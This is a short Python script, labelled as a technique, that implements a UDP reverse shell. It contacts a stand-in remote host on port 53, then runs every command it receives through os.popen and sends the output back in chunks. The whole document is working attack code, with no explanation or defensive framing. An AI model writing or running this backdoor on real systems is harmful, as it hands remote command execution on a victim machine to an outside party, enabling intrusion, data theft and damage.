# technique: UDP reverse shell that receives commands as datagrams and returns popen output
import socket,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
a=("192.0.2.44",53)
s.sendto(b"hello\n",a)
while 1:
    d,_=s.recvfrom(2048)
    if not d:continue
    o=os.popen(d.decode().strip()+" 2>&1").read()
    for i in range(0,len(o),1024):s.sendto(o[i:i+1024].encode(),a)
    s.sendto(b"# ",a)
